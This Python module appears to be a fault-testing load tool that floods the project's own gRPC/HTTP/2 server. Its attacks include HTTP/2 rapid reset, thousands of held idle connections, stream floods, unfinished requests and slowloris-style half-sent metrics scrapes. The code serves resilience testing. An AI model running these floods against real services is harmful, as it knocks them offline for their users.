"""One caller who wants everything: `python -m tests.faults.support.attacker FLOOD ADDRESS …`.

    FLOOD ADDRESS SOURCE METRICS TOKEN VERSION

It comes from the address SOURCE (127.0.0.2), goes on until it is ended, and yields to everybody
else on the machine: what is measured is what the server gives it, not what the scheduler does.
"""

import os
import random
import resource
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from select import POLLIN, POLLOUT, poll
from threading import Thread
from typing import Final

from common.wire import offload_pb2 as wire
from sims.load.http2 import Calls, ProtocolError, request_headers

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
WATCH: Final = "/grpc.health.v1.Health/Watch"
PACKAGE: Final = "/vicinal.v1.Offload/GetPackage"
CONNECTIONS: Final = 4096
STREAMS: Final = 4096
CALLS: Final = 200
# On one connection.
EACH: Final = 10
EVERYTHING: Final = "mute connections, streams and calls"
NICENESS: Final = 19
USERS: Final = 10


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + body


class Attack:
    """Where the server is, and where the attacker comes from."""

    def __init__(self, address: str, source: str, metrics: str, token: str, version: str) -> None:
        self.address = address
        self.source = source
        self.metrics = int(metrics)
        self.token = token
        self.version = version

    def socket(self, port: int = 0) -> socket.socket:
        host, _, public = self.address.rpartition(":")
        return socket.create_connection((host, port or int(public)), 20, (self.source, 0))

    def headers(self, method: str) -> bytes:
        return request_headers(self.address, method, 3600, self.token)


def held(opened: Callable[[], socket.socket], count: int) -> None:
    """So many connections, opened again as they are ended, with a pause between rounds."""
    sockets: list[socket.socket] = []
    while True:
        sockets = [one for one in sockets if not over(one)]
        with suppress(OSError):
            while len(sockets) < count:
                sockets.append(opened())
        time.sleep(0.2)


def over(stream: socket.socket) -> bool:
    stream.setblocking(False)
    try:
        while data := stream.recv(1 << 16):
            del data
    except BlockingIOError:
        return False
    except OSError:
        pass
    stream.close()
    return True


def mute(attack: Attack) -> None:
    held(attack.socket, CONNECTIONS)


def streams(attack: Attack, end: int, each: int, count: int) -> None:
    """Health.Watch without a token; with `end` 0 their requests never come to an end."""
    block = request_headers(attack.address, WATCH, 3600)

    def opened() -> socket.socket:
        stream = attack.socket()
        numbers = range(1, 2 * each, 2)
        asked = b"".join(
            frame(HEADERS, END_HEADERS, number, block)
            + (frame(DATA, end, number, bytes(5)) if end else b"")
            for number in numbers
        )
        with suppress(OSError):
            stream.sendall(PREFACE + frame(SETTINGS, 0, 0) + asked)
        return stream

    held(opened, count)


def calls(attack: Attack) -> None:
    """So many at a time, each asked again at once whatever the server says."""
    rng = random.Random(0)

    def request() -> bytes:
        user = rng.randrange(USERS)
        wanted = wire.PackageRequest(version=attack.version, user=user, preset="vicinal")
        return wanted.SerializeToString()

    while True:
        with suppress(OSError, ProtocolError):
            connections = [
                Calls(
                    attack.address,
                    PACKAGE,
                    timeout_seconds=60,
                    source=attack.source,
                    token=attack.token,
                )
                for _ in range(CALLS // EACH)
            ]
            for one in connections:
                for token in range(EACH):
                    one.ask(token, request())
            while True:
                ready = poll()
                for one in connections:
                    ready.register(one.socket, POLLIN | (POLLOUT if one.flush() else 0))
                ready.poll(1000)
                for one in connections:
                    with suppress(BlockingIOError):
                        for ended in one.receive():
                            one.ask(ended.token, request())
        time.sleep(0.05)


def reset(attack: Attack) -> None:
    """Rapid reset: every stream is given up as soon as it is opened."""
    block = request_headers(attack.address, PACKAGE, 3600)
    while True:
        with suppress(OSError):
            stream = attack.socket()
            stream.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for first in range(1, 1 << 30, 2000):
                stream.sendall(
                    b"".join(
                        frame(HEADERS, END_HEADERS, number, block)
                        + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
                        for number in range(first, first + 2000, 2)
                    )
                )
                stream.setblocking(False)
                with suppress(BlockingIOError):
                    if not stream.recv(1 << 16):
                        break
                stream.settimeout(20)


def scrapes(attack: Attack) -> None:
    def opened() -> socket.socket:
        stream = attack.socket(attack.metrics)
        stream.sendall(b"GET /metrics HTTP/1.1\r\n")
        return stream

    held(opened, 600)


def everything(attack: Attack) -> None:
    """Mute connections, streams and calls, all at once."""
    for one in (mute, watch):
        Thread(target=one, args=(attack,), daemon=True).start()
    calls(attack)


def watch(attack: Attack) -> None:
    streams(attack, END_STREAM, STREAMS, 1)


def many_watches(attack: Attack) -> None:
    streams(attack, END_STREAM, 30, 200)


def unfinished(attack: Attack) -> None:
    streams(attack, 0, 30, 200)


FLOODS: Final[dict[str, Callable[[Attack], None]]] = {
    "4,096 Health.Watch on one connection": watch,
    "30 Health.Watch on each of 200 connections": many_watches,
    "30 unfinished requests on each of 200 connections": unfinished,
    "4,096 mute connections": mute,
    "200 calls at a time": calls,
    "HTTP/2 rapid reset": reset,
    "600 half-sent scrapes": scrapes,
    EVERYTHING: everything,
}


if __name__ == "__main__":
    os.setpriority(os.PRIO_PROCESS, 0, NICENESS)
    if hasattr(os, "SCHED_IDLE"):
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    FLOODS[sys.argv[1]](Attack(*sys.argv[2:]))
